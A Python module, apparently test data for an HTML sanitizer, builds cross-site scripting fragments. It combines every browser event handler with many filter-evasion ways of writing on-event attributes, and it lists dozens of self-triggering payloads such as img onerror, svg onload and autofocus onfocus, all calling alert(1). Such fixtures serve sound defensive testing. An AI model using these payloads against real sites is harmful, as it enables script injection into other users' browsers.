"""Handlers of events, and the many ways in which browsers have read an attribute."""

from itertools import cycle, product

EVENTS = """
    abort animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch
    beforepaste beforetoggle begin blur bounce cancel canplay change click close
    contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave
    dragover dragstart drop end error finish focus focusin focusout formdata fullscreenchange gotpointercapture
    hashchange input invalid keydown keypress keyup load loadstart lostpointercapture message mousedown
    mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pointercancel
    pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate
    progress ratechange readystatechange repeat reset resize scroll scrollend scrollsnapchange search
    securitypolicyviolation seeked select selectionchange selectstart show slotchange start storage submit
    suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend
    transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend
    webkittransitionend wheel
""".split()
ALLOWED = (
    "p h2 blockquote ul li table td figure figcaption aside details summary a span em img abbr time pre hr br".split()
)
FOREIGN = "svg math iframe object embed video audio source input button select textarea form body marquee".split()
FOREIGN += "dialog template slot keygen isindex link meta base frame frameset applet x-kwaad animate image".split()

WRITTEN = [
    " on{}=alert(1)",
    " on{}='alert(1)'",
    ' on{}="alert(1)"',
    " on{}=`alert(1)`",
    "/on{}=alert(1)",
    "//on{}=alert(1)//",
    "\ton{}\t=\talert(1)",
    "\non{}\n=\nalert(1)",
    "\x0con{}\x0c=\x0calert(1)",
    "\r\non{}\r\n=\r\n'alert(1)'",
    ' title="x"on{}=alert(1)',
    " title='x'on{}=alert(1)",
    " title=x/on{}=alert(1)",
    ' title=">" on{}=alert(1)',
    " title='\"' on{}=alert(1) x='\"'",
    ' =" on{}=alert(1) x="',
    ' " on{}=alert(1)',
    " ' on{}=alert(1)",
    " ` on{}=alert(1)",
    " < on{}=alert(1)",
    " <p on{}=alert(1)",
    ' title="&quot; on{0}=alert(1)" on{0}=alert(1)',
    " on{}=&#97;lert(1)",
    " on{}=alert&lpar;1&rpar;",
    " on{}=alert&#x28;1&#x29",
    " on{}=\\u0061lert(1)",
    " on{0}=alert(1) on{0}=alert(2)",
    " ON{}=alert(1)",
    " oN{}=alert(1)",
    " x=1 style=x:y on{}=alert(1) autofocus tabindex=1",
    " xmlns:on='x' on:{}=alert(1)",
    " data-on{0}=alert(1) on{0}=alert(1)",
]


def handlers():
    """Every event once, every way of writing on seven elements, in turn."""
    events, elements = cycle(EVENTS), cycle(ALLOWED + FOREIGN)
    for way, _time in product(WRITTEN, range(7)):
        name = next(elements)
        yield f"<{name}{way.format(next(events))}>tekst</{name}>"


# What runs by itself, in a browser that lets it

AT_ONCE = [
    "<img src=x onerror=alert(1)//",
    "<img src onerror=alert(1)",
    "<img src=x:x onerror=alert(1) alt=",
    "<img src='x'onerror='alert(1)'alt=''>",
    "<img alt='' src=x onerror=alert(1) data-x='>'>",
    "<image src=x onerror=alert(1)>",
    "<image href=x onerror=alert(1)></image>",
    "<img srcset=x onerror=alert(1)>",
    "<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>",
    "<details open ontoggle=alert(1)>",
    "<details open><summary onfocus=alert(1) autofocus tabindex=0>x",
    "<svg onload=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x to=0>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><image href=x onerror=alert(1)>",
    "<video><source onerror=alert(1) src=x></video>",
    "<video autoplay onloadstart=alert(1) src=/pictures/x/></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=x onerror=alert(1)>",
    "<embed src=/pictures/x/ onload=alert(1)>",
    "<iframe onload=alert(1)></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>',
    "<iframe srcdoc=&lt;script&gt;parent.alert(1)&lt;/script&gt;></iframe>",
    "<input autofocus onfocus=alert(1)><input autofocus>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<button autofocus onfocus=alert(1)>x</button>",
    "<p contenteditable autofocus onfocus=alert(1)>x</p>",
    "<p tabindex=1 id=x onfocus=alert(1)>x</p><a href=#x autofocus>y</a>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>x</p>",
    "<p style='transition:color 1s;color:red' ontransitionend=alert(1)>x</p>",
    "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    "<body onpageshow=alert(1)><body onhashchange=alert(1)>",
    "<html onclick=alert(1)><head onclick=alert(1)>",
    "<link rel=preload as=image href=x onerror=alert(1)>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>y</p>",
    "<p hidden=until-found onbeforematch=alert(1)>x</p>",
    "<xss onscrollsnapchange=alert(1) style=overflow:scroll>x</xss>",
]

FRAGMENTS = [*handlers(), *AT_ONCE]
